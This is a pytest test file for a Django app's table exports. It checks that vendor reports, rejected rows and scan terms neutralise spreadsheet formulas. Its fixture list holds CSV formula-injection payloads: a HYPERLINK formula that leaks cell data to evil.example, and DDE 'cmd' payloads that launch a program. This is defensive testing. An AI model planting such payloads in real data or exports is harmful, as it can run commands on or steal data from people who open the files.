"""Every export defuses spreadsheet formulas through one function (certificates.exporting.neutralise):
the vendor report in CSV and XLSX, the batch's rejected rows, the scan terms and the certificate list."""

import csv
import io
import pathlib
import re
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from certificates.exporting import neutralise
from certificates.models import ImportBatch
from tests.factories import make_certificate, make_user, make_vendor
from tests.scanning_factories import make_term

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
ROOT = pathlib.Path(__file__).resolve().parent.parent


@pytest.fixture
def hostile_report(client):
    for name in HOSTILE_NAMES:
        make_certificate(vendor=make_vendor(name))
    make_certificate(vendor=make_vendor("Plain Leads"))
    client.force_login(make_user("manager"))
    return {"period": "day", "day": date.today().isoformat()}


def xlsx_cells(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def test_the_vendor_report_csv_writes_formula_vendor_names_as_text(client, hostile_report):
    response = client.get(reverse("reports:vendors"), {**hostile_report, "_export": "csv"})

    vendors = [row["Vendor"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
    assert sorted(vendors) == sorted(["'" + name for name in HOSTILE_NAMES] + ["Plain Leads"])


def test_the_vendor_report_xlsx_writes_formula_vendor_names_as_text(client, hostile_report):
    response = client.get(reverse("reports:vendors"), {**hostile_report, "_export": "xlsx"})

    rows = xlsx_cells(response.content)
    column = [cell.value for cell in rows[0]].index("Vendor")
    cells = [row[column] for row in rows[1:]]
    assert all(cell.data_type == "s" for cell in cells)  # "f" would be a formula Excel runs
    assert sorted(cell.value for cell in cells) == sorted(["'" + n for n in HOSTILE_NAMES] + ["Plain Leads"])


def test_the_rejected_rows_xlsx_writes_formulas_as_text(client):
    batch = ImportBatch.objects.create(source=ImportBatch.Source.CSV, filename="x.csv")
    batch.row_errors.create(line=2, field="reference", value=HOSTILE_NAMES[1], reason="Too long.")
    client.force_login(make_user("manager"))

    response = client.get(reverse("intake:batch", args=[batch.pk]), {"_export": "xlsx"})

    rows = xlsx_cells(response.content)
    assert [cell.value for cell in rows[1]] == [2, "reference", "'" + HOSTILE_NAMES[1], "Too long."]
    assert rows[1][2].data_type == "s"


def test_the_rejected_rows_export_masks_contacts_for_a_role_without_the_contact_permission(client):
    from django.contrib.auth.models import Group, Permission

    batch = ImportBatch.objects.create(source=ImportBatch.Source.CSV, filename="x.csv")
    batch.row_errors.create(line=2, field="email", value="=jane@example", reason="Not a valid email address.")
    exporter = make_user(None)
    group = Group.objects.create(name="exporters")
    group.permissions.set(Permission.objects.filter(codename__in=["view_certificate", "export_certificate"]))
    exporter.groups.add(group)
    client.force_login(exporter)

    response = client.get(reverse("intake:batch", args=[batch.pk]), {"_export": "csv"})

    assert "jane@example" not in response.content.decode()


def test_the_scan_term_export_writes_formulas_as_text(client):
    make_term("=1+1 and I agree to be called.")
    client.force_login(make_user("manager"))

    response = client.get(reverse("scanning:terms"), {"_export": "csv"})

    terms = [row["Term"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
    assert terms == ["'=1+1 and I agree to be called."]


def test_a_table_export_in_another_format_is_not_served(client, hostile_report):
    response = client.get(reverse("reports:vendors"), {**hostile_report, "_export": "json"})

    assert response["Content-Type"].startswith("text/html")


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_neutralise_prefixes_what_a_spreadsheet_would_run(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Acme", "", "1-800", "a=b", 42, None])
def test_neutralise_leaves_everything_else_alone(value):
    assert neutralise(value) == value


def test_no_export_bypasses_the_shared_neutralising_export():
    """A new table export must use SafeTableExport; django-tables2's own TableExport writes formulas."""
    offenders = []
    for app in ("certificates", "scanning", "tfdash"):
        for path in (ROOT / app).rglob("*.py"):
            text = path.read_text()
            imports = re.findall(r"^from django_tables2\.export\S* import (.+)$", text, re.MULTILINE)
            names = {name.strip() for line in imports for name in line.split(",")}
            uses_table_export = "TableExport" in names and path.name != "exporting.py"
            unsafe_mixin = "ExportMixin" in names and "export_class = SafeTableExport" not in text
            if uses_table_export or unsafe_mixin:
                offenders.append(path.relative_to(ROOT).as_posix())
    assert offenders == []
